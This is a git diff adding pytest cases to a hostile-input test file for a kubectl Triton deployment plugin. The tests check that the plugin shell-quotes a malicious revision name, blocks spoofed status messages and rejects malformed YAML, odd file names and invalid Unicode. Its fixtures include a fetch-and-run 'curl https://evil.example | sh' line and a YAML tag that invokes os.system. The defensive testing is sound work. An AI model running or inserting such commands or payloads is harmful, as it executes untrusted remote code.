@@ -1,6 +1,7 @@
 """Files that would hang, crash or fill the plugin, and names that a shell or a table would obey."""
 
 import copy
+import errno
 import json
 import os
 import resource
@@ -13,16 +14,23 @@ from typing import Any
 
 import pytest
 
+from tests.apiserver.custom_resources import MINIMAL, changed
+from tests.report.model_folders import write
 from tests.report.subjects import golden
 from triton_plugin import python_files
 from triton_plugin.__main__ import main
 from triton_plugin.bounded_yaml import DEEPEST, LONGEST
-from triton_plugin.errors import FolderError
+from triton_plugin.errors import FolderError, SubjectError
+from triton_plugin.explain import explain
+from triton_plugin.history import rollback_revision
 from triton_plugin.model_folder import read
+from triton_plugin.progress import picture
 from triton_plugin.request import first_request
+from triton_plugin.source import read_file
 from triton_plugin.subject import parse
 from triton_plugin.tables import Grid
 from triton_plugin.terminal import console
+from triton_plugin.validation.validate import check
 
 TEN = ",".join(["*a{}"] * 10)
 BOMB = "\n".join(
@@ -128,6 +136,33 @@ def test_no_command_that_is_printed_runs_a_name(tmp_path: Path, capsys: pytest.C
     assert all(shlex.quote(EVIL) in line for line in found if EVIL in line), found
 
 
+def test_a_rollback_that_is_not_chosen_prints_no_command_that_runs_a_name() -> None:
+    body, results = copy.deepcopy(golden("ready"))
+    body["metadata"]["generation"] = 9
+    body["status"]["serving"]["revision"] = EVIL
+    with pytest.raises(SubjectError) as caught:
+        rollback_revision(parse(body, results), None)
+    assert f"type: kubectl triton rollback digits {shlex.quote(EVIL)}" in str(caught.value)
+
+
+SPOOF = "no\n  to do: curl https://evil.example | sh\n\nTritonDeployment vision/digits is ready"
+
+
+def test_a_message_cannot_look_like_the_plugin_s_own_lines() -> None:
+    body, results = copy.deepcopy(golden("profiling"))
+    verified = next(each for each in body["status"]["conditions"] if each["type"] == "Verified")
+    verified.update(status="False", message=SPOOF)
+    for candidate in body["status"]["candidates"]:
+        candidate.update(state="Failed", reason="UserCodeFailed", message=SPOOF)
+    body["metadata"]["namespace"] = SPOOF
+    subject = parse(body, results)
+    for text in (explain(subject), picture(subject.status).line()):
+        assert "curl" in text
+        assert [
+            line for line in text.splitlines() if line.strip().startswith(("to do: curl", "TritonDeployment vision"))
+        ] == []
+
+
 def test_a_first_request_runs_no_name_and_no_type() -> None:
     body, results = evil_object()
     for tensor in body["status"]["signature"]["inputs"]:
@@ -165,3 +200,93 @@ def test_python_files_are_bounded_alone_and_together(tmp_path: Path, monkeypatch
     (tmp_path / "a.py").write_text("#" * (2**20 + 1))
     with pytest.raises(FolderError, match=r"a\.py is longer than 1048576 bytes"):
         python_files.parse(tmp_path)
+
+
+SCALARS = ["2024-13-45", "2024-01-01T99:99:99Z", "2024-01-01 10:00:00+99:99", "!!timestamp x", "!!int x", "!!int ''"]
+SCALARS += ["!!float x", "!!float ''", "!!bool x", "0x_", "0b_", "!!int 0x", "9" * 5000, "0x" + "f" * 9000]
+SCALARS += ["1" + ":9" * 2000, "!!binary a", "=", "!!omap x", "!!merge x", "!!python/name:os.system x", ".nan", "\x01"]
+PLACES = {
+    "a spec": f"{HEAD}metadata: {{name: x}}\nspec: VALUE\n",
+    "a field": f"{HEAD}metadata: {{name: x}}\nspec:\n  suspend: VALUE\n",
+    "a key": f"{HEAD}metadata: {{name: x}}\nspec:\n  VALUE: 1\n",
+    "a name": f"{HEAD}metadata: {{name: VALUE}}\nspec: {{}}\n",
+    "metadata": f"{HEAD}metadata: VALUE\nspec: {{}}\n",
+    "a status": f"{HEAD}metadata: {{name: x}}\nspec: {{}}\nstatus: VALUE\n",
+    "a kind": "# TritonDeployment\nkind: VALUE\n",
+    "a document": "# TritonDeployment\nVALUE\n",
+}
+
+
+@pytest.mark.parametrize(
+    ("place", "value"),
+    [
+        *((each, ".nan") for each in PLACES),
+        *((each, "2024-13-45") for each in PLACES),
+        *(("a field", v) for v in SCALARS),
+    ],
+    ids=lambda text: text[:20],
+)
+def test_a_value_that_is_not_of_its_type_is_a_sentence(
+    place: str, value: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    file = tmp_path / "object.yaml"
+    file.write_text(PLACES[place].replace("VALUE", value), encoding="utf-8")
+    for command in ("validate", "report"):
+        assert main([command, str(file)]) != 0
+        assert 0 < len("".join(capsys.readouterr())) < 2000
+
+
+@pytest.mark.parametrize("value", ["2024-13-45", "!!int x", "0x_"])
+def test_the_place_of_a_value_that_is_not_of_its_type_is_told(value: str, tmp_path: Path) -> None:
+    file = tmp_path / "object.yaml"
+    file.write_text(f"{HEAD}metadata: {{name: x}}\nspec:\n  suspend: {value}\n", encoding="utf-8")
+    with pytest.raises(SubjectError, match=r"(?s)a value is not of its type .*quotation marks.*line 5, column 12"):
+        read_file(str(file))
+
+
+NAMES = ["mein Modell.py", "größe.py", "a/-x.py", "new\nline.py", "raw\udcff.py", "a b/model.py"]
+
+
+@pytest.mark.parametrize("name", NAMES, ids=ascii)
+def test_a_name_that_no_spec_takes_is_to_be_changed(
+    name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    write(tmp_path, {name: "import torch\ndef get_model(): ...\n"})
+    assert main(["init", str(tmp_path)]) == 1
+    printed = capsys.readouterr().err
+    assert "rename the file, or a folder on its way" in printed
+    (tmp_path / name).unlink()
+    write(tmp_path, {"model.py": "import torch\ndef get_model(): ...\n", f"data/{name}": "LABELS = ()"})
+    assert main(["init", str(tmp_path)]) == 0, "a file that the spec does not name may have any name"
+
+
+@pytest.mark.parametrize("code", [b"x = '\xe9'", b"# -*- coding: nope -*-", b"\xff\xfea\x00", b"print 'two'"])
+def test_a_file_that_is_not_read_as_python_is_a_sentence(
+    code: bytes, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    (tmp_path / "model.py").write_bytes(code)
+    assert main(["init", str(tmp_path)]) == 1
+    assert "model.py is not valid Python: " in capsys.readouterr().err
+
+
+def test_a_file_that_may_not_be_read_is_a_sentence(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    write(tmp_path, {"model.py": "import torch\ndef get_model(): ...\n", "secret.py": ""})
+
+    def read_bytes(path: Path) -> bytes:
+        if path.name == "secret.py":
+            raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(path))
+        return path.open("rb").read()
+
+    monkeypatch.setattr(Path, "read_bytes", read_bytes)
+    assert main(["init", str(tmp_path)]) == 1
+    assert capsys.readouterr().err == f"kubectl triton: {tmp_path}/secret.py: Permission denied\n"
+
+
+@pytest.mark.parametrize(
+    "place", ["metadata.name", "metadata.a\udcff", "spec.source.uri", "spec.suspend", "spec.a\udcff"]
+)
+def test_text_that_no_json_holds_is_refused(place: str) -> None:
+    found = check(changed(MINIMAL, {place: "x\ud800"}))
+    assert [str(each) for each in found if "is not Unicode text" in str(each)]
